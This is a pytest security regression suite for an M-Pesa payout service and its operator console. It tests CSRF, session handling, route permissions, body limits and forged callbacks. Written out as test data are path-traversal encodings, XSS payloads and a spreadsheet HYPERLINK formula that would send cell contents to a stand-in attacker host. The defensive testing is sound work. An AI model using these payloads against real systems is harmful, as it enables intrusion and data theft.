"""An attacker with a browser and curl against the running service, on SQLite and MariaDB.

Each finding of issue 21 first (each failed on the code before its fix), then the suite that
keeps them shut: the usual path-traversal spellings against the console's report files;
missing, wrong and replayed CSRF tokens; tampered, expired, revoked and idle sessions; every
route with no key, a read key and an initiate key where an operator is needed; hostile strings
in every field a console page shows; oversized, chunked and slow bodies; forged callbacks from
a foreign sender, with and without X-Forwarded-For."""

from __future__ import annotations

import re
import socket
import time
import uuid
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
import requests

import service
from mpesa_service import PROJECT_DIR
from mpesa_service.events import emit
from mpesa_service.flags import add_flag
from mpesa_service.storage import event_deliveries, events, utcnow
from tests.service_support import API_KEY, TOKEN
from tests.test_operator import OPERATOR, READER, TO_REVIEW

CONSOLE_SECRET = "console-secret-for-the-security-tests"
ATTACKER = "203.0.113.9"


@pytest.fixture
def ops(make_stack):
    return make_stack({**TO_REVIEW, "CONSOLE_SECRET": CONSOLE_SECRET})


def signed_in(stack, secret=OPERATOR) -> requests.Session:
    session = requests.Session()
    answer = session.post(f"{stack.base_url}/console/login", data={"key": secret}, timeout=10)
    assert answer.url.endswith("/console"), answer.url
    return session


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([0-9a-f]+)"', page).group(1)


def payout_row(stack, reference_id: str, status: str = "review", **values) -> str:
    """A payout written straight into the database, as the old system (or a hostile caller
    before references were checked) could have: its id."""
    payout_id = str(uuid.uuid4())
    with stack.svc.engine.begin() as conn:
        conn.execute(
            service.b2c_payments.insert().values(
                id=payout_id,
                reference_id=reference_id,
                status=status,
                amount=700,
                phone_number="254712345678",
                user_id=values.pop("user_id", "t-1"),
                initiated_at=utcnow(),
                updated_at=utcnow(),
                **values,
            )
        )
    return payout_id


class Links(HTMLParser):
    """Every href and form action on a page."""

    def __init__(self):
        super().__init__()
        self.targets: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in ("href", "action") and value:
                self.targets.append(value)


def targets_of(page: str) -> list[str]:
    links = Links()
    links.feed(page)
    return links.targets


# --- 1. the console serves only the report files the report runs wrote --------------------


TRAVERSALS = [
    "/console/reports/../console_secret",
    "/console/reports/%2e%2e/console_secret",
    "/console/reports/%2E%2E/console_secret",
    "/console/reports/..%2fconsole_secret/x",
    "/console/reports/%2e%2e%2f%2e%2e/console_secret",
    "/console/reports/.%2e/console_secret",
    "/console/reports/%252e%252e/console_secret",
    "/console/reports/..%5cconsole_secret/x",
    "/console/reports/./console_secret",
    "/console/reports/%00/console_secret",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_report_files_cannot_be_left_by_traversal(ops, path):
    session = signed_in(ops)
    # A secret beside the reports folder, where the project's own console_secret sits beside
    # data/reports.
    beside = ops.svc.settings.path("REPORTS_DIR").parent / "console_secret"
    beside.write_text("secret-beside-the-reports")
    secret = (PROJECT_DIR / "data" / "console_secret").read_text().strip()
    answer = session.get(ops.base_url + path, timeout=10)
    assert answer.status_code == 404
    assert "secret-beside-the-reports" not in answer.text
    assert secret not in answer.text and CONSOLE_SECRET not in answer.text


def test_a_file_a_report_run_wrote_is_served(ops):
    run = ops.svc.settings.path("REPORTS_DIR") / f"security-{uuid.uuid4().hex[:8]}"
    run.mkdir(parents=True)
    try:
        (run / "report.html").write_text("<p>clean</p>")
        answer = signed_in(ops).get(f"{ops.base_url}/console/reports/{run.name}/report.html")
        assert (answer.status_code, answer.text) == (200, "<p>clean</p>")
        missing = signed_in(ops).get(f"{ops.base_url}/console/reports/{run.name}/nope.html")
        assert missing.status_code == 404
    finally:
        for child in run.iterdir():
            child.unlink()
        run.rmdir()


# --- 2. forged deliveries cannot fill the disk through the journal ---------------------------


def test_forged_deliveries_grow_the_journal_by_a_small_fraction_and_a_genuine_one_still_lands(
    ops,
):
    from tests.test_payouts import pay, result_body

    before = ops.journal_path.stat().st_size if ops.journal_path.exists() else 0
    forged = b'{"Result": {"ResultCode": 0, "x": "' + b"A" * 60_000 + b'"}}'
    with requests.Session() as attacker:
        for _ in range(300):
            answer = attacker.post(
                f"{ops.base_url}/hooks/b2c/result/not-the-token",
                data=forged,
                headers={"Content-Type": "application/json"},
                timeout=10,
            )
            assert answer.status_code == 404
    grown = ops.journal_path.stat().st_size - before
    assert grown < len(forged) * 300 / 50, f"the journal grew by {grown:,} bytes"

    created = pay(ops, phone="254722000001").json()  # paid, its callback never sent
    genuine = result_body(created["originator_conversation_id"])
    assert ops.hook("/hooks/b2c/result", genuine).status_code == 200
    entries = [e for e in ops.journal() if e["state"] == "received"]
    assert '"TK58QW1RTY"' in entries[-1]["body"]
    assert ops.get(f"/payouts/{created['reference_id']}").json()["status"] == "completed"


def test_a_refused_delivery_keeps_a_bounded_record(ops):
    body = b'{"Result": {"pad": "' + b"B" * 50_000 + b'"}}'
    requests.post(f"{ops.base_url}/hooks/b2c/result/wrong", data=body, timeout=10)
    (entry,) = [e for e in ops.journal() if e["state"] == "rejected"]
    assert entry["reason"] == "wrong callback token"
    assert entry["size"] == len(body)
    assert len(entry["sha256"]) == 64
    assert len(entry["body_head"]) <= 2048 and "body" not in entry


def test_healthz_and_an_alert_report_low_space_for_the_journal(make_stack):
    from mpesa_service.jobs import send_alerts

    stack = make_stack({"JOURNAL_MIN_FREE_MB": str(10**9)})  # more than any disk has
    health = requests.get(f"{stack.base_url}/healthz", timeout=10)
    assert health.status_code == 503
    assert health.json()["journal"].startswith("low on space")
    send_alerts(stack.svc)
    flags = [f.flag for f in stack.rows(service.payment_flags)]
    assert flags == ["journal_space_low"]
    send_alerts(stack.svc)  # told once, not every minute
    assert [f.flag for f in stack.rows(service.payment_flags)] == ["journal_space_low"]


# --- 3. every value put into a URL or an attribute is encoded --------------------------------


HOSTILE_REFERENCE = 'payout_ref_victim/resolve?x="><script>alert(1)</script>'


def test_a_crafted_reference_cannot_aim_the_resolve_button_at_another_payout(ops):
    payout_row(ops, "payout_ref_victim")
    payout_row(ops, HOSTILE_REFERENCE)
    page = signed_in(ops).get(f"{ops.base_url}/console", timeout=10).text
    assert "<script>alert(1)</script>" not in page
    encoded = quote(HOSTILE_REFERENCE, safe="")
    payout_paths = [urlsplit(t).path for t in targets_of(page) if "/console/payouts/" in t]
    assert sorted(payout_paths) == sorted(
        [
            "/console/payouts/payout_ref_victim",
            "/console/payouts/payout_ref_victim/resolve",
            f"/console/payouts/{encoded}",
            f"/console/payouts/{encoded}/resolve",
        ]
    )


def test_a_new_payout_reference_must_be_plain_text(ops):
    answer = ops.post(
        "/payouts",
        {"user_id": "u-1", "phone": "0712345678", "amount": 100, "reference_id": "a/../b"},
        headers={"Idempotency-Key": "k-hostile-ref"},
    )
    assert answer.status_code == 400
    assert answer.json()["field"] == "reference_id"


# --- 4. signing out ends the session on the server --------------------------------------------


def test_a_cookie_copied_before_sign_out_no_longer_works(ops):
    session = signed_in(ops)
    copied = session.cookies.get("console_session")
    page = session.get(f"{ops.base_url}/console", timeout=10).text
    session.post(f"{ops.base_url}/console/logout", data={"csrf": csrf_of(page)}, timeout=10)
    replayed = requests.get(
        f"{ops.base_url}/console", cookies={"console_session": copied}, timeout=10
    )
    assert replayed.url.endswith("/console/login")


def test_an_idle_session_expires(make_stack):
    stack = make_stack({**TO_REVIEW, "CONSOLE_IDLE_SECONDS": "1"})
    session = requests.Session()
    # Not following the redirect: on a loaded machine the hop to /console alone can take 1 s.
    login = session.post(
        f"{stack.base_url}/console/login", data={"key": OPERATOR}, allow_redirects=False, timeout=10
    )
    assert login.status_code == 303 and login.headers["Location"].endswith("/console")
    assert session.cookies.get("console_session")
    time.sleep(1.5)
    assert session.get(f"{stack.base_url}/console", timeout=10).url.endswith("/console/login")


# --- 5. phones are masked in the raw callback bodies a page shows -----------------------------


def test_phones_are_masked_in_raw_callback_json(ops):
    from tests.test_payouts import pay, result_body

    created = pay(ops, phone="254722000001").json()
    ops.hook("/hooks/b2c/result", result_body(created["originator_conversation_id"]))
    page = (
        signed_in(ops)
        .get(f"{ops.base_url}/console/payouts/{created['reference_id']}", timeout=10)
        .text
    )
    assert "JANE WANJIRU-DOE" in page  # the raw body is shown...
    assert "254712345678" not in page and "254722000001" not in page  # ...its phones masked
    (stored,) = ops.rows(service.b2c_payment_callbacks)
    assert "254712345678" in stored.raw_response  # the database keeps them whole


# === the suite that keeps them shut ===========================================================

# --- CSRF ---------------------------------------------------------------------------------------


def in_review(stack) -> str:
    reference = f"payout_ref_{uuid.uuid4().hex[:12]}"
    payout_row(stack, reference)
    return reference


@pytest.mark.parametrize("csrf", [None, "", "0" * 32, "not-hex", "a" * 200])
def test_a_resolve_without_its_csrf_token_is_refused(ops, csrf):
    reference = in_review(ops)
    form = {"outcome": "not_paid", "note": "forged"}
    if csrf is not None:
        form["csrf"] = csrf
    answer = signed_in(ops).post(
        f"{ops.base_url}/console/payouts/{reference}/resolve", data=form, timeout=10
    )
    assert answer.status_code == 403
    assert ops.get(f"/payouts/{reference}").json()["status"] == "review"


def test_a_csrf_token_from_an_earlier_session_is_refused(ops):
    reference = in_review(ops)
    first = signed_in(ops)
    old_token = csrf_of(first.get(f"{ops.base_url}/console", timeout=10).text)
    second = signed_in(ops)
    for path in (f"/console/payouts/{reference}/resolve", f"/console/payouts/{reference}/requery"):
        answer = second.post(
            ops.base_url + path,
            data={"outcome": "not_paid", "note": "replayed", "csrf": old_token},
            timeout=10,
        )
        assert answer.status_code == 403, path
    assert ops.get(f"/payouts/{reference}").json()["status"] == "review"


def test_sign_out_needs_its_csrf_token(ops):
    session = signed_in(ops)
    answer = session.post(f"{ops.base_url}/console/logout", data={"csrf": "0" * 32}, timeout=10)
    assert answer.status_code == 403
    assert session.get(f"{ops.base_url}/console", timeout=10).url.endswith("/console")


# --- sessions -----------------------------------------------------------------------------------


def console_with(stack, cookie: str) -> requests.Response:
    return requests.get(
        f"{stack.base_url}/console", cookies={"console_session": cookie}, timeout=10
    )


def test_a_tampered_cookie_is_refused(ops):
    cookie = signed_in(ops).cookies.get("console_session")
    token, _, signature = cookie.partition(".")
    for forged in (
        token[:-1] + ("A" if token[-1] != "A" else "B") + "." + signature,
        token + "." + signature[:-1] + ("0" if signature[-1] != "0" else "1"),
        token,
        "." + signature,
        "",
        "x" * 4000,
    ):
        assert console_with(ops, forged).url.endswith("/console/login"), forged[:40]


def test_a_cookie_signed_with_another_secret_is_refused(make_stack):
    cookie = signed_in(make_stack({**TO_REVIEW, "CONSOLE_SECRET": "one"})).cookies.get(
        "console_session"
    )
    other = make_stack({**TO_REVIEW, "CONSOLE_SECRET": "two"})
    assert console_with(other, cookie).url.endswith("/console/login")


def test_an_expired_session_is_refused(ops):
    session = signed_in(ops)
    with ops.svc.engine.begin() as conn:
        conn.execute(service.console_sessions.update().values(expires_at=utcnow()))
    assert session.get(f"{ops.base_url}/console", timeout=10).url.endswith("/console/login")


def test_a_session_whose_key_is_no_longer_configured_is_refused(make_stack):
    first = make_stack({**TO_REVIEW, "CONSOLE_SECRET": CONSOLE_SECRET})
    cookie = signed_in(first).cookies.get("console_session")
    without_ops = {**TO_REVIEW, "CONSOLE_SECRET": CONSOLE_SECRET, "API_KEYS": API_KEY}
    second = make_stack(without_ops)
    assert console_with(second, cookie).url.endswith("/console/login")


# --- every route, by who may call it -----------------------------------------------------------

INITIATE, READ, OPERATE = "initiate", "read", "operator"
# What each API route needs; the console's routes need a session, the callbacks their token.
ROUTE_ROLES = {
    ("GET", "/healthz"): None,
    ("GET", "/openapi.json"): None,
    ("GET", "/metrics"): {READ, OPERATE},
    ("POST", "/payments/mpesa/stk-initiate"): {INITIATE},
    ("POST", "/payments/mpesa/stk-query"): {INITIATE, READ},
    ("POST", "/payments/<payment_id>/reverse"): {OPERATE},
    ("POST", "/payouts"): {INITIATE},
    ("GET", "/payouts/<reference_id>"): {READ, OPERATE},
    ("GET", "/payouts"): {READ, OPERATE},
    ("POST", "/payouts/<reference_id>/resolve"): {OPERATE},
    ("POST", "/payouts/<reference_id>/requery"): {OPERATE},
    ("POST", "/payouts/<reference_id>/approve"): {OPERATE},
    ("POST", "/payouts/<reference_id>/reject"): {OPERATE},
    ("POST", "/payouts/batches"): {OPERATE},
    ("GET", "/payouts/batches/<batch_id>"): {READ, OPERATE},
    ("POST", "/payouts/batches/<batch_id>/approve"): {OPERATE},
    ("POST", "/payouts/batches/<batch_id>/reject"): {OPERATE},
    ("GET", "/payouts/batches/<batch_id>/result.csv"): {READ, OPERATE},
    ("GET", "/payouts/batches/<batch_id>/result.xlsx"): {READ, OPERATE},
    ("GET", "/events"): {READ, OPERATE},
    ("POST", "/events/<event_id>/redeliver"): {OPERATE},
    ("GET", "/c2b/payments"): {READ, OPERATE},
    ("POST", "/api.php"): {INITIATE},
}
# Each key and the roles it has (the operator key can read too).
KEYS_WITH_ROLES = {
    "init-secret-9": {INITIATE},
    READER: {READ},
    OPERATOR: {OPERATE, READ},
}
ROLE_KEYS = (
    f"{API_KEY},app:initiate:init-secret-9,ops:operator+read:{OPERATOR},auditor:read:{READER}"
)


@pytest.fixture
def keyed(make_stack):
    return make_stack({**TO_REVIEW, "API_KEYS": ROLE_KEYS, "CONSOLE_SECRET": CONSOLE_SECRET})


def test_every_route_is_in_the_table_of_who_may_call_it(keyed):
    app = service.make_app(keyed.svc)
    routes = {(route.method, route.rule) for route in app.routes}
    api = {r for r in routes if not r[1].startswith(("/console", "/hooks"))}
    api.discard(("POST", "/clientpaymentcallback.php"))  # a callback: its token, below
    assert api == set(ROUTE_ROLES)


@pytest.mark.parametrize(("method", "rule"), sorted(ROUTE_ROLES))
def test_each_api_route_answers_only_the_roles_it_names(keyed, method, rule):
    path = rule.replace("<reference_id>", "payout_ref_nobody").replace("<event_id>", "no-event")
    path = path.replace("<payment_id>", "no-payment")
    path = path.replace("<batch_id>", "no-batch")
    needed = ROUTE_ROLES[(method, rule)]

    def call(secret):
        headers = {"Authorization": f"Bearer {secret}"} if secret else {}
        return requests.request(
            method, keyed.base_url + path, json={}, headers=headers, timeout=10
        ).status_code

    if needed is None:
        assert call(None) == 200
        return
    assert call(None) == 401
    assert call("not-a-key") == 401
    for secret, roles in KEYS_WITH_ROLES.items():
        status = call(secret)
        assert (status == 403) == (not roles & needed), (roles, status)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/console"),
        ("GET", "/console/payouts/x"),
        ("POST", "/console/payouts/x/resolve"),
        ("POST", "/console/payouts/x/requery"),
        ("POST", "/console/logout"),
        ("GET", "/console/reports/x/report.html"),
        ("GET", "/console/events"),
        ("POST", "/console/events/x/redeliver"),
        ("GET", "/console/payments/x"),
        ("POST", "/console/payments/x/reverse"),
        ("GET", "/console/batches"),
        ("POST", "/console/batches/upload"),
        ("GET", "/console/batches/x"),
        ("POST", "/console/batches/x/approve"),
        ("POST", "/console/batches/x/reject"),
        ("GET", "/console/batches/x/result.csv"),
        ("GET", "/console/c2b"),
    ],
)
def test_every_console_route_needs_a_session(keyed, method, path):
    answer = requests.request(
        method, keyed.base_url + path, data={"csrf": "x"}, allow_redirects=False, timeout=10
    )
    assert (answer.status_code, answer.headers["Location"]) == (
        303,
        keyed.base_url + "/console/login",
    )


@pytest.mark.parametrize("secret", [READER, "init-secret-9", API_KEY])
def test_only_an_operator_key_signs_in_to_the_console(keyed, secret):
    answer = requests.post(f"{keyed.base_url}/console/login", data={"key": secret}, timeout=10)
    assert answer.url.endswith("/console/login?error=not%20an%20operator%20key")


# --- hostile strings in everything a page shows ------------------------------------------------

XSS = "\"'><script>alert('xss')</script><img src=x onerror=alert(1)>"


def test_hostile_strings_are_shown_as_text_on_every_console_page(ops):
    reference = in_review(ops)
    payout_id = payout_row(
        ops,
        "payout_ref_hostile",
        user_id=XSS[:36],
        description=XSS,
        error_description=XSS,
        result_desc=XSS,
        reason_code=XSS[:100],
        transaction_id=XSS,
    )
    body = {"Result": {"ResultCode": XSS, "ResultDesc": XSS, "OriginatorConversationID": XSS}}
    ops.hook("/hooks/b2c/result", body)
    with ops.svc.engine.begin() as conn:
        conn.execute(
            service.b2c_payment_callbacks.update().values(payout_id=payout_id, raw_response=XSS)
        )
        add_flag(conn, "payout", payout_id, "status_conflict", XSS)
        hostile_events(conn)
    session = signed_in(ops)
    page = session.get(f"{ops.base_url}/console/payouts/{reference}", timeout=10).text
    resolved = session.post(
        f"{ops.base_url}/console/payouts/{reference}/resolve",
        data={"outcome": "paid", "receipt": "TK58QW1RTY", "note": XSS, "csrf": csrf_of(page)},
        timeout=10,
    )
    pages = [
        resolved.text,
        session.get(f"{ops.base_url}/console", timeout=10).text,
        session.get(f"{ops.base_url}/console", params={"q": XSS}, timeout=10).text,
        session.get(f"{ops.base_url}/console", params={"q": "payout_ref_hostile"}, timeout=10).text,
        session.get(f"{ops.base_url}/console/payouts/payout_ref_hostile", timeout=10).text,
        session.get(f"{ops.base_url}/console/login", params={"error": XSS}, timeout=10).text,
        session.get(
            f"{ops.base_url}/console/payouts/payout_ref_hostile",
            params={"message": XSS},
            timeout=10,
        ).text,
        session.get(f"{ops.base_url}/console/events", params={"error": XSS}, timeout=10).text,
    ]
    assert f'href="/console/payouts/{quote(XSS, safe="")}"' in pages[-1]
    for page in pages:
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    assert "&lt;script&gt;alert(" in pages[4]  # shown, as text


def hostile_events(conn) -> None:
    """Events whose subject, type and delivery error are hostile, as a bad row could hold."""
    payout_event = emit(conn, "payout.completed", XSS, {"reference_id": XSS})
    conn.execute(
        events.insert().values(
            id=str(uuid.uuid4()), type=XSS[:50], subject=XSS, created_at=utcnow(), body="{}"
        )
    )
    conn.execute(
        event_deliveries.insert().values(
            id=str(uuid.uuid4()),
            event_id=payout_event,
            attempted_at=utcnow(),
            error=XSS,
            latency_ms=1,
        )
    )


# --- bodies: oversized, chunked, slow ----------------------------------------------------------


def test_an_oversized_body_is_refused_whether_or_not_it_says_its_length(make_stack):
    stack = make_stack({"CALLBACK_MAX_BYTES": "1024"})
    big = b'{"Result": {"pad": "' + b"x" * 5000 + b'"}}'
    said = requests.post(f"{stack.base_url}/hooks/b2c/result/{TOKEN}", data=big, timeout=10)
    chunked = requests.post(
        f"{stack.base_url}/hooks/b2c/result/{TOKEN}",
        data=iter([big[:3000], big[3000:]]),
        timeout=10,
    )
    assert (said.status_code, chunked.status_code) == (413, 413)
    assert [e["state"] for e in stack.journal()] == ["rejected", "rejected"]
    assert all(len(e["body_head"]) <= 2048 for e in stack.journal())
    too_big = stack.post("/payouts", {"pad": "x" * 70_000}, headers={"Idempotency-Key": "big"})
    assert too_big.status_code == 413


def test_a_slow_client_does_not_hold_up_the_others(stack):
    address = urlsplit(stack.base_url)
    with socket.create_connection((address.hostname, address.port)) as slow:
        slow.sendall(
            f"POST /hooks/b2c/result/{TOKEN} HTTP/1.1\r\nHost: x\r\n"
            "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{".encode()
        )
        started = time.monotonic()
        for _ in range(5):
            assert requests.get(f"{stack.base_url}/healthz", timeout=5).status_code == 200
        assert time.monotonic() - started < 5
        slow.sendall(b'"Result"')
    assert not [e for e in stack.journal() if e["state"] == "received"]


# --- forged callbacks from a foreign sender ---------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "forwarded_for", "status"),
    [
        ({"CALLBACK_ALLOWED_IPS": "196.201.214.200"}, None, 403),
        ({"CALLBACK_ALLOWED_IPS": "196.201.214.200"}, "196.201.214.200", 403),
        (
            {"CALLBACK_ALLOWED_IPS": "196.201.214.200", "TRUSTED_PROXIES": "127.0.0.1"},
            f"196.201.214.200, {ATTACKER}",
            403,
        ),
        (
            {"CALLBACK_ALLOWED_IPS": "196.201.214.200", "TRUSTED_PROXIES": "127.0.0.1"},
            f"{ATTACKER}, 196.201.214.200",
            200,
        ),
    ],
)
def test_a_callback_is_believed_only_from_an_allowed_sender(
    make_stack, settings, forwarded_for, status
):
    from tests.test_payouts import pay, result_body

    stack = make_stack(settings)
    created = pay(stack, phone="254722000001").json()
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    answer = stack.hook(
        "/hooks/b2c/result", result_body(created["originator_conversation_id"]), headers=headers
    )
    assert answer.status_code == status
    expected = "completed" if status == 200 else "pending"
    assert stack.get(f"/payouts/{created['reference_id']}").json()["status"] == expected


# --- hostile strings in the reconciliation report ------------------------------------------


def test_report_cells_a_spreadsheet_would_run_as_formulas_stay_text():
    import csv
    import io

    from openpyxl import load_workbook

    from recon.checks import Options, run_checks
    from recon.frames import Frames
    from recon.report import Report
    from tests.recon_support import AS_OF, new_payout, new_result

    # Upper case without spaces: recon compares receipts so (see recon.frames.receipt_series).
    formula = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&A1,"OPEN")'
    options = Options(as_of=AS_OF, since=AS_OF.replace(day=5), until=AS_OF)
    frames = Frames.from_records(  # a short payment whose result carries a hostile receipt
        payouts=[new_payout("p01", "1000.00", "completed", ocid="OC1", hour=20)],
        results=[new_result("r1", ocid="OC1", code=0, amount="100.00", txn=formula, hour=20)],
    )
    report = Report(findings=run_checks(frames, options), options=options)
    rows = list(csv.DictReader(io.StringIO(report.findings_csv().decode())))
    cells = [value for row in rows for value in row.values()]
    assert f"'{formula}" in cells and formula not in cells
    book = load_workbook(io.BytesIO(report.xlsx_bytes()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
